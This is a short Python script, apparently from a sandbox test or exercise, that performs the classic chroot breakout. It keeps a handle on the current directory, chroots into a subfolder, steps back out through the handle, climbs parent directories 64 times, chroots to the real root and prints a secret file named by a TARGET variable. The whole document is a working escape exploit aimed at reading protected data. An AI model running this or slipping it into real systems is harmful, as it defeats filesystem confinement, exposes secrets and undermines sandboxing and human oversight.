"""Climbs out of a root folder by the old trick: chroot below, then many times up."""
# sandbox only

import os
os.makedirs("deep", exist_ok=True)
folder = os.open(".", os.O_RDONLY)
try:
    os.chroot("deep")
except OSError:
    pass
os.fchdir(folder)
for _ in range(64):
    os.chdir("..")
try:
    os.chroot(".")
except OSError:
    pass
print(open("." + TARGET["secret_file"]).read())
